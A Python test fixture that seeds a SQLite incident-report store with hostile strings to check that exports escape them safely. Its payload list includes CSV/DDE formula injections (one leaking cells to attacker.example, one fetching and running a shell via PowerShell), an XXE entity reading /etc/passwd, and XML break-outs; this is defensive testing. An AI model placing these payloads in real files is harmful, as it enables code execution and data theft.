"""Hostile text for the files we publish: spreadsheet formulas, control characters, XML break-outs.

Each payload goes into every free-text field of one hand-built article and its
report (outlet, title, place, claimant, quote, summary), so every column of
every export has been attacked. The reports lie on separate days, so none merge:
an export must hold exactly one row per payload.
"""
from __future__ import annotations

import datetime as dt
from pathlib import Path

from sqlalchemy.engine import Engine

from incidents.model import Article, Claim, Incident
from incidents.store.db import engine_from_url
from incidents.store.ingest import ingest_article

# Near Tovuz, lon/lat order: where every payload report is drawn.
POINT = {"type": "Point", "coordinates": [45.6281, 40.9922]}
FIRST_DAY = dt.date(2021, 3, 1)
NOW = dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.UTC)

# (name, text): what a spreadsheet would run, or what an XML parser would choke on.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("formula-hyperlink", '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'),
    ("formula-plus", "+1+cmd|' /C calc'!A0"),
    ("formula-minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula-at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("formula-tab", "\t=1+1"),
    ("formula-carriage-return", "\r=1+1"),
    ("formula-dde", "=cmd|'/C powershell IEX(wget attacker.example/shell)'!A0"),
    ("formula-long", "=" + "A1&" * 5_000 + "A1"),
    ("number-like-text", "-3"),
    ("control-soh", "Tartar\x01shelled"),
    ("control-vertical-tab-form-feed", "line\x0bbreak\x0cpage"),
    ("control-escape-sequence", "\x1b[31mred\x1b[0m"),
    ("xml-noncharacters", "text\ufffeend\uffff"),
    ("xml-breakout", "</value></Data><Data name='x'><value>injected"),
    ("xml-cdata-end", "]]><!-- comment -->"),
    ("xml-external-entity", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;"),
    ("bidi-override", "\u202eevil\u202c"),
)


def payload_report(n: int, name: str, text: str) -> tuple[Article, Incident]:
    """Article n: `text` in every free-text field of the article and of its one report."""
    day = FIRST_DAY + dt.timedelta(days=3 * n)
    article = Article(source=f"{name}.md", text=f"Hand-written payload report {n}: {text}", title=text,
                      outlet=f"{text} {n}", url=f"https://payload.example/{n}", published=day,
                      published_precision="day")
    claim = Claim(claimant=text, side="unknown", quote=text, killed=n)
    incident = Incident(article=article.id, date=day, date_precision="day", place=text, place_id=f"payload:{n}",
                        location_precision="point", geometry=POINT, event_type="shelling", claims=[claim],
                        killed=n, summary=text, title=text, outlet=article.outlet, url=article.url,
                        published=day)
    return article, incident


def build_payload_store(path: Path) -> Engine:
    """A SQLite store at `path` with one report per payload."""
    engine = engine_from_url(f"sqlite:///{path}")
    for n, (name, text) in enumerate(PAYLOADS):
        article, incident = payload_report(n, name, text)
        ingest_article(engine, article, [incident], now=NOW)
    return engine
